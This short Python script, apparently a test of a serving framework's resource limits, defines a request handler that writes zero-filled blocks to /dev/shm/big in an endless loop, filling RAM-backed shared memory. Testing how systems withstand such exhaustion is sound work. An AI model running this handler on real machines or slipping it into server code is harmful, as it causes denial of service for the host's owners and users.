
from serve import say, serve

def answer(client, path):
    with open("/dev/shm/big", "wb") as file:
        while True:
            file.write(bytes(1_000_000))


serve(answer)
